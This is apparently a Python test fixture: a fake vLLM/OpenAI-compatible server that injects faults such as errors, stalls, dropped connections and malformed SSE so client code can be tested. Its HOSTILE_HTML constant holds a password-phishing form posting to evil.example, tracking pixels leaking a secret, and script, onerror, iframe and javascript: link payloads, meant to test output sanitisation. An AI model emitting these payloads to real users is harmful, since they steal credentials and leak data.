"""A fault-injecting OpenAI-compatible server that speaks vLLM's wire format byte for byte.

Real servers (llama.cpp here, vLLM in the cloud) are used for the happy path; this one exists for what they
won't do on demand: answer 503 while "loading", fail with 500/400/429, stall before the first token, cut the
connection mid-stream, send a malformed SSE line or an error event mid-stream, or never answer.

In-process use (tests):

    with FakeOpenAIServer(tokens_per_s=50, reply="Hello there") as fake:
        model = OpenAICompatModel("Fake", fake.base_url, fake.model)
        fake.mode = "cut"                      # every request from now on
        fake.queue("rate_limit", "rate_limit") # the next two requests, then `mode` again
        ...
        fake.requests[-1]["body"]               # what the client sent
        fake.wait_for_disconnect(2.0)           # the client closed a stream early

Thinking: with `fake.reasoning = "…"` every reply streams that text first as `delta.reasoning` deltas (vLLM with
a reasoning parser; `fake.reasoning_field = "reasoning_content"` for vLLM before PR #33402), counted in
`completion_tokens` as vLLM counts them. `fake.strict_model = True` answers a model id it does not serve with
vLLM's 404 ("The model `X` does not exist.") instead of accepting any id.

A request can also pick its mode itself with the header `X-Fake-Mode: cut` or a model id ending in
`@cut` (handy when the app under test is configured only through SELF_HOSTED_MODEL).

Subprocess use (benchmarks, so the fake does not share the app's GIL):

    python -m harness.fakes.openai_server --port 8011 --tokens-per-s 20 --reply-tokens 100
"""

from __future__ import annotations

import argparse
import base64
import json
import re
import time
import uuid
from collections.abc import Callable
from typing import Any

from harness.fakes.sse_http import ClientGone, FakeServer, SSEHandler, wait_or_gone

MODES = (
    "normal",  # stream the reply at `tokens_per_s`
    "loading",  # 503 like llama.cpp / a load balancer while the model loads
    "error_500",  # 500 with an OpenAI-style {"error": {...}} body
    "bad_request",  # 400 with vLLM's flat {"object": "error", "message": ...} body
    "too_long",  # 400 {"error": {...}}: the prompt exceeds the context window (CONTEXT_TOO_LONG)
    "reply_too_long",  # 400 {"error": {...}}: the prompt fits but not with max_tokens (REPLY_TOO_LONG)
    "too_long_in_stream",  # 200, then `data: {"error": CONTEXT_TOO_LONG}` and [DONE], no text
    "rate_limit",  # 429 with Retry-After
    "slow_start",  # wait `first_token_delay_s` before the first token, then stream normally
    "cut",  # stream half the reply, then drop the TCP connection mid-body
    "end_early",  # stream half the reply, then end the body cleanly without finish_reason or [DONE]
    "malformed",  # one broken `data:` line in the middle, the rest of the stream intact
    "error_event",  # half the reply, then `data: {"error": ...}` and `data: [DONE]` as vLLM does
    "abort",  # half the reply, then finish_reason "abort" and a normal [DONE]: vLLM's engine aborted it
    "hang",  # accept the request and never answer
    "html",  # stream HOSTILE_HTML: what a prompt-injected model might write (forms, remote images, scripts)
    # llama-cpp-python finds an overflow inside its stream: a 200 whose stream ends before any event. Asked
    # again without streaming, it answers the 400 LLAMA_CPP_TOO_LONG ("empty_stream": a normal completion).
    "too_long_empty_stream",
    "empty_stream",
)

# vLLM's words for a prompt over the window (its serving_engine checks) and for one that fits without room for
# max_tokens; the fake's window is CONTEXT_WINDOW tokens.
CONTEXT_WINDOW = 4096
CONTEXT_TOO_LONG = (
    "This model's maximum context length is 4096 tokens. However, your request has 9000 input tokens. "
    "Please reduce the length of the input messages."
)
REPLY_TOO_LONG = (
    "'max_tokens' or 'max_completion_tokens' is too large: 1024. This model's maximum context length is 4096 "
    "tokens and your request has 3500 input tokens (1024 > 4096 - 3500)."
)

# llama-cpp-python's words for a prompt over its window (n_ctx 4096).
LLAMA_CPP_TOO_LONG = (
    "This model's maximum context length is 4096 tokens. However, you requested 9016 tokens (9000 in the messages, "
    "16 in the completion). Please reduce the length of the messages or completion."
)

# Active HTML and remote loads in Markdown, plus Markdown that must still render (table, code, http(s) link).
HOSTILE_HTML = """Please confirm your account.

<form action="https://evil.example/steal" method="post"><input name="password" placeholder="Password">\
<button>Sign in</button></form>
<img src="https://evil.example/pixel.png?leak=secret"> <img src=x onerror="document.body.dataset.pwned='img'">
![tracker](https://evil.example/md.png?leak=secret)
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/obj"></object>
<style>body { display: none }</style><script>document.body.dataset.pwned = 'script'</script>
<a href="https://evil.example/" onmouseover="document.body.dataset.pwned='hover'">hover me</a>
[run](javascript:document.body.dataset.pwned='link')

| fruit | count |
|---|---|
| apple | 3 |

Inline `<b>code</b>` stays code, and so does a block:

```html
<form action="https://evil.example/">shown as code</form>
```

Read [the docs](https://example.com/docs)."""

Reply = str | int | Callable[[dict[str, Any]], str]


def tokenize(text: str) -> list[str]:
    """Split into word-sized tokens that keep their leading whitespace, so joining them restores the text."""
    return re.findall(r"\s*\S+|\s+$", text) or [text]


class FakeOpenAIServer(FakeServer):
    MODES = MODES

    def __init__(
        self,
        *,
        port: int = 0,
        model: str = "fake-model",
        mode: str = "normal",
        tokens_per_s: float = 100.0,
        reply: Reply | None = None,
        first_token_delay_s: float = 3.0,
        retry_after_s: float = 1.0,
        split_utf8: bool = False,
    ) -> None:
        """`reply`: None echoes the last user message ("You said: …"); a str is sent as is; an int N sends
        N tokens ("tok1 tok2 …"); a callable gets the request body. `split_utf8` writes every event in two
        TCP chunks cut inside a multi-byte character when there is one."""
        super().__init__(_handler_for(self), port=port, mode=mode)
        self.model = model
        self.tokens_per_s = tokens_per_s
        self.reply = reply
        self.first_token_delay_s = first_token_delay_s
        self.retry_after_s = retry_after_s
        self.split_utf8 = split_utf8
        self.completed = 0  # streams sent to the end
        # False: answer image parts with a 400 as vLLM does when serving a text-only model.
        self.vision = True
        self.reasoning: str | None = None
        self.reasoning_field = "reasoning"
        self.strict_model = False
        # The usage chunk's completion_tokens; None: one per streamed token, thinking included. Real tokenizers
        # rarely split a reply where its deltas fall, so a test can make the server's count differ from the chunks.
        self.completion_tokens: int | None = None
        # False: ignore stream_options.include_usage and send no usage chunk, as llama-cpp-python's server does.
        self.sends_usage = True
        # The finish_reason the "abort" mode ends with: vLLM's "abort", or OpenAI-style servers' "content_filter".
        self.abort_reason = "abort"
        # The ids `GET /v1/models` lists (None: just `model`), e.g. [] for a server still registering its model.
        self.served: list[str] | None = None
        # The message of "error_event" (None: an error object without one); False `sends_finish`: the stream ends
        # with [DONE] but no chunk carries a finish_reason (servers that leave it out).
        self.error_event_message: str | None = "The engine died"
        self.sends_finish = True

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.port}/v1"

    def chat_requests(self) -> list[dict[str, Any]]:
        """Bodies of the chat completion requests received so far."""
        return [r["body"] for r in self.requests if r["path"].endswith("/chat/completions")]

    def wait_for_completed(self, n: int, timeout: float = 10.0) -> bool:
        """Wait until `n` streams were sent to the end; True if they were. A client has its last chunk a moment
        before the handler counts the stream, so a count read as the client returns can be one short."""
        with self._changed:
            return self._changed.wait_for(lambda: self.completed >= n, timeout)

    # -- used by the handler -----------------------------------------------------------------------------
    def _pick_mode(self, body: Any, header: str | None) -> str:
        queued = self._queued_mode()
        if queued:
            return queued
        model = body.get("model", "") if isinstance(body, dict) else ""
        for candidate in (header, model.rpartition("@")[2] if "@" in model else None):
            if candidate in MODES:
                return candidate
        return self.mode

    def _reply_tokens(self, body: dict[str, Any]) -> list[str]:
        reply = self.reply
        if callable(reply):
            return tokenize(reply(body))
        if isinstance(reply, int):
            return [f"tok{i} " for i in range(1, reply + 1)]
        if isinstance(reply, str):
            return tokenize(reply)
        users = [_text_of(m.get("content", "")) for m in body.get("messages", []) if m.get("role") == "user"]
        images = len(image_parts(body))
        seen = f" [images in context: {images}]" if images else ""
        return tokenize(f"You said: {users[-1] if users else ''}{seen}")


def _text_of(content: Any) -> str:
    if isinstance(content, list):
        return "".join(p.get("text", "") for p in content if isinstance(p, dict) and p.get("type") == "text")
    return str(content)


def image_parts(body: dict[str, Any]) -> list[dict[str, Any]]:
    """The `image_url` parts of a chat request, in order (OpenAI's content-part form, which vLLM serves)."""
    return [
        part
        for m in body.get("messages", [])
        if isinstance(m.get("content"), list)
        for part in m["content"]
        if isinstance(part, dict) and part.get("type") == "image_url"
    ]


def image_problem(body: dict[str, Any], vision: bool) -> str | None:
    """What vLLM would refuse about the images of a request (None: acceptable). An http(s) URL is refused
    here although vLLM would fetch it: a fetch from inside the cluster is exactly what the chat must never ask."""
    parts = image_parts(body)
    if parts and not vision:
        return f"{body.get('model')} is not a multimodal model; image inputs are not supported"
    for part in parts:
        url = (part.get("image_url") or {}).get("url") if isinstance(part.get("image_url"), dict) else None
        if not isinstance(url, str) or not url.startswith("data:image/") or ";base64," not in url:
            return f"fake: only base64 data: image URLs are accepted, got {str(url)[:60]!r}"
        try:
            base64.b64decode(url.split(";base64,", 1)[1], validate=True)
        except ValueError:
            return "fake: the image data URL is not valid base64"
    return None


def _prompt_tokens(body: dict[str, Any]) -> int:
    return sum(len(tokenize(str(m.get("content", "")))) for m in body.get("messages", [])) + 4


def _handler_for(server: FakeOpenAIServer) -> type[SSEHandler]:
    class Handler(SSEHandler):
        def do_GET(self) -> None:
            server._record(self.path, None, dict(self.headers))
            if self.path.rstrip("/") != "/v1/models":
                self.send_json(404, {"detail": "Not Found"})
            elif server.mode == "loading":
                self.send_json(503, _error("Loading model", "unavailable_error", 503))
            else:
                created = int(time.time())
                cards = [
                    {
                        "id": name,
                        "object": "model",
                        "created": created,
                        "owned_by": "vllm",
                        "root": name,
                        "parent": None,
                    }
                    for name in (server.served if server.served is not None else [server.model])
                ]
                self.send_json(200, {"object": "list", "data": cards})

        def do_POST(self) -> None:
            body = self.read_json()
            server._record(self.path, body, dict(self.headers))
            if self.path.rstrip("/") != "/v1/chat/completions":
                self.send_json(404, {"detail": "Not Found"})
                return
            if not isinstance(body, dict) or not isinstance(body.get("messages"), list):
                self.send_json(400, _flat_error("messages: field required", 400))
                return
            problem = image_problem(body, server.vision)
            if problem:
                self.send_json(400, _flat_error(problem, 400))
                return
            if server.strict_model and body.get("model") != server.model:
                message = f"The model `{body.get('model')}` does not exist."
                self.send_json(
                    404, {"object": "error", "message": message, "type": "NotFoundError", "param": None, "code": 404}
                )
                return
            mode = server._pick_mode(body, self.headers.get("X-Fake-Mode"))
            try:
                self._serve(mode, body)
            except ClientGone:
                server._count("disconnects")
                self.close_connection = True

        def _serve(self, mode: str, body: dict[str, Any]) -> None:
            if mode == "loading":
                self.send_json(503, _error("Loading model", "unavailable_error", 503))
            elif mode == "error_500":
                self.send_json(
                    500, _error("CUDA error: an illegal memory access was encountered", "InternalServerError", 500)
                )
            elif mode == "bad_request":
                self.send_json(400, _flat_error("top_p must be in (0, 1], got 0.0.", 400))
            elif mode in ("too_long", "reply_too_long"):
                message = CONTEXT_TOO_LONG if mode == "too_long" else REPLY_TOO_LONG
                self.send_json(400, _error(message, "BadRequestError", 400))
            elif mode == "rate_limit":
                headers = {"Retry-After": f"{server.retry_after_s:g}"}
                self.send_json(429, _error("Too many requests, slow down", "RateLimitError", 429), headers)
            elif mode == "hang":
                wait_or_gone(self, 3600, server._stopping)
            elif mode in ("too_long_empty_stream", "empty_stream") and body.get("stream"):
                self.start_sse()
                self.end_chunks()
            elif mode == "too_long_empty_stream":
                self.send_json(400, _error(LLAMA_CPP_TOO_LONG, "invalid_request_error", 400))
            elif mode == "empty_stream":
                self.send_json(200, _completion(body, server._reply_tokens(body)[:1]))
            else:
                self._stream(mode, body)

        def _stream(self, mode: str, body: dict[str, Any]) -> None:
            chunk_id = f"chatcmpl-{uuid.uuid4().hex}"
            created = int(time.time())
            model = body.get("model", server.model)
            tokens = tokenize(HOSTILE_HTML) if mode == "html" else server._reply_tokens(body)
            max_tokens = body.get("max_tokens")
            finish = "stop"
            if isinstance(max_tokens, int) and 0 < max_tokens < len(tokens):
                tokens, finish = tokens[:max_tokens], "length"
            half = max(1, len(tokens) // 2)

            def event(delta: dict[str, Any], finish_reason: str | None = None) -> dict[str, Any]:
                choice = {"index": 0, "delta": delta, "logprobs": None, "finish_reason": finish_reason}
                return {
                    "id": chunk_id,
                    "object": "chat.completion.chunk",
                    "created": created,
                    "model": model,
                    "choices": [choice],
                }

            self.start_sse()
            if mode == "too_long_in_stream":
                self._send({"error": _error(CONTEXT_TOO_LONG, "BadRequestError", 400)["error"]})
                self._send_raw(b"data: [DONE]\n\n")
                self.end_chunks()
                return
            self._send(event({"role": "assistant", "content": ""}))
            if mode == "slow_start":
                wait_or_gone(self, server.first_token_delay_s, server._stopping)
            thoughts = tokenize(server.reasoning) if server.reasoning else []
            for token in thoughts:  # vLLM's reasoning parser: thinking first, in its own delta field
                self._send(event({server.reasoning_field: token}))
            start = time.monotonic()
            for i, token in enumerate(tokens):
                # Pace against the start time so the rate stays fixed however long each write takes.
                wait_or_gone(self, start + i / server.tokens_per_s - time.monotonic(), server._stopping)
                if i == half and mode == "cut":
                    self.cut_connection()
                    return
                if i == half and mode == "end_early":
                    self.end_chunks()
                    return
                if i == half and mode == "abort":
                    tokens, finish = tokens[:half], server.abort_reason
                    break
                if i == half and mode == "malformed":
                    self._send_raw(b'data: {"id": "broken", "choices": [{"delta": {"content": \n\n')
                if i == half and mode == "error_event":
                    error = {"object": "error", "type": "InternalServerError", "param": None, "code": 500}
                    if server.error_event_message is not None:
                        error["message"] = server.error_event_message
                    self._send({"error": error})
                    self._send_raw(b"data: [DONE]\n\n")
                    self.end_chunks()
                    return
                self._send(event({"content": token}))
            if server.sends_finish:
                self._send(event({}, finish))
            if server.sends_usage and (body.get("stream_options") or {}).get("include_usage"):
                counted = len(thoughts) + len(tokens)
                completion = counted if server.completion_tokens is None else server.completion_tokens
                usage = {"prompt_tokens": _prompt_tokens(body), "completion_tokens": completion}
                usage["total_tokens"] = usage["prompt_tokens"] + usage["completion_tokens"]
                self._send(
                    {
                        "id": chunk_id,
                        "object": "chat.completion.chunk",
                        "created": created,
                        "model": model,
                        "choices": [],
                        "usage": usage,
                    }
                )
            self._send_raw(b"data: [DONE]\n\n")
            self.end_chunks()
            server._count("completed")

        def _send(self, obj: dict[str, Any]) -> None:
            self._send_raw(b"data: " + json.dumps(obj, ensure_ascii=False).encode() + b"\n\n")

        def _send_raw(self, data: bytes) -> None:
            if server.split_utf8:
                cut = next((i + 1 for i, b in enumerate(data) if b >= 0xC0), None)  # just after a lead byte
                if cut:
                    self.write_chunk(data[:cut])
                    time.sleep(0.005)  # separate TCP segments, so the client really reads them apart
                    self.write_chunk(data[cut:])
                    return
            self.write_chunk(data)

    return Handler


def _error(message: str, kind: str, code: int) -> dict[str, Any]:
    return {"error": {"message": message, "type": kind, "param": None, "code": code}}


def _completion(body: dict[str, Any], tokens: list[str]) -> dict[str, Any]:
    """A non-streamed chat completion."""
    usage = {"prompt_tokens": _prompt_tokens(body), "completion_tokens": len(tokens)}
    message = {"role": "assistant", "content": "".join(tokens)}
    return {
        "id": f"chatcmpl-{uuid.uuid4().hex}",
        "object": "chat.completion",
        "created": int(time.time()),
        "model": body.get("model"),
        "choices": [{"index": 0, "message": message, "logprobs": None, "finish_reason": "length"}],
        "usage": usage | {"total_tokens": usage["prompt_tokens"] + usage["completion_tokens"]},
    }


def _flat_error(message: str, code: int) -> dict[str, Any]:
    return {"object": "error", "message": message, "type": "BadRequestError", "param": None, "code": code}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--model", default="fake-model")
    parser.add_argument("--mode", default="normal", choices=MODES)
    parser.add_argument("--tokens-per-s", type=float, default=20.0)
    parser.add_argument("--reply-tokens", type=int, default=None, help="fixed reply length; default echoes")
    args = parser.parse_args()
    server = FakeOpenAIServer(
        port=args.port, model=args.model, mode=args.mode, tokens_per_s=args.tokens_per_s, reply=args.reply_tokens
    )
    print(f"fake OpenAI server on {server.base_url}", flush=True)
    try:
        server._httpd.serve_forever()
    except KeyboardInterrupt:
        pass
    finally:
        server._stopping.set()
        server._httpd.server_close()


if __name__ == "__main__":
    main()
